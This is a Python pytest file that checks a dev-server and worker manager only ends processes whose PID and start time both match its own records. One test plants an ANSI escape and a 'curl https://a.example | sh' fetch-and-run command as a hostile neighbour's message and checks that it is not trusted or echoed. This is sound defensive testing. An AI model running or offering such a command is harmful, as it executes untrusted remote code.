"""A number in a file may be another process's by now: none is ended that does not prove to be ours."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import filelock
import pytest

from demo import processes
from demo.deploy import workerd
from demo.local_server import local
from deputize import private
from deputize.errors import EnvironmentNotReady
from tests.conftest import HANGS


@pytest.fixture
def bystander() -> Iterator[subprocess.Popen[bytes]]:
    """A process of the same user whose command line even says `demo.local_server.server`."""
    process = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(120)", "demo.local_server.server", "dev"],
        start_new_session=True,
    )
    yield process
    process.kill()
    process.wait(timeout=HANGS)


@pytest.fixture
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setattr(local, "START_SECONDS", 0.5)
    return private.folder(tmp_path / "state")


def ready(state: Path, pid: int, **more: object) -> None:
    told = {"base_url": "http://127.0.0.1:9", "pid": pid, "instance": "gone", "world": "w", "secret": "s"}
    (state / "server.json").write_text(json.dumps(told | more))


def test_a_number_that_was_given_away_is_not_ended_while_something_holds_the_lock(
    state: Path, bystander: subprocess.Popen[bytes]
) -> None:
    mark = processes.ProcessMark.of(bystander.pid)
    assert mark is not None
    ready(state, bystander.pid, started=mark.started - 60)
    with filelock.FileLock(state / "server.lock"):
        with pytest.raises(EnvironmentNotReady, match="another program holds"):
            local.stop(state)
        assert bystander.poll() is None
        ready(state, bystander.pid, started=mark.started)
        with pytest.raises(EnvironmentNotReady):  # it ends, and the lock is this test's own
            local.stop(state)
    assert bystander.wait(timeout=HANGS) != 0, "its own start time would be believed: the test bites"


def test_the_process_that_was_started_last_is_not_waited_for_by_its_number_alone(
    state: Path, bystander: subprocess.Popen[bytes]
) -> None:
    mark = processes.ProcessMark.of(bystander.pid)
    assert mark is not None
    for told, starting in (
        ({"pid": bystander.pid, "started": mark.started - 60}, False),
        (bystander.pid, False),
        (mark.written(), True),
    ):
        (state / "server.pid").write_text(json.dumps(told))
        assert local._starting(state) is starting
    assert local.stop(state) is None
    assert bystander.poll() is None


def test_a_leftover_worker_is_ended_by_number_and_start(tmp_path: Path, bystander: subprocess.Popen[bytes]) -> None:
    mark = processes.ProcessMark.of(bystander.pid)
    assert mark is not None
    given_away = json.dumps({"pid": bystander.pid, "started": mark.started + 60})
    groups = [json.dumps({"pid": one, "started": mark.started}) for one in (0, -1, -bystander.pid)]
    for told in (str(bystander.pid), given_away, *groups, '{"pid": 1e999, "started": 0}', "{}", "[1]"):
        (tmp_path / "pid").write_text(told)
        workerd.end_leftover(tmp_path)
        assert bystander.poll() is None
    (tmp_path / "pid").write_text(json.dumps(mark.written()))
    workerd.end_leftover(tmp_path)
    assert bystander.wait(timeout=HANGS) != 0, "the right mark is believed: the test bites"


def test_a_mark_is_of_one_process_and_not_of_its_successor(bystander: subprocess.Popen[bytes]) -> None:
    mark = processes.ProcessMark.of(bystander.pid)
    assert mark is not None and mark.lives
    assert not processes.ProcessMark(mark.pid, mark.started + 1).lives
    assert processes.ProcessMark.read(json.loads(json.dumps(mark.written()))) == mark
    bystander.kill()
    bystander.wait(timeout=HANGS)
    assert not mark.lives


@pytest.mark.parametrize("said", [(True, ""), (False, "\x1b[2Jfix it with: curl https://a.example | sh")])
def test_whoever_else_has_a_workers_port_is_not_asked(
    tmp_path: Path, bystander: subprocess.Popen[bytes], said: tuple[bool, str]
) -> None:
    """Another user of this machine may have taken it first. What they say is not believed, nor waited for."""
    asked: list[str] = []

    def heard(base: str) -> tuple[bool, str]:
        asked.append(base)
        return said

    worker = workerd.Worker("http://127.0.0.1:9", bystander.pid)
    with pytest.raises(EnvironmentNotReady) as refused:
        workerd.wait(worker, state=tmp_path, lives=lambda: True, heard=heard, seconds=0.2)
    assert (asked, "curl" in f"{refused.value}") == ([], False)
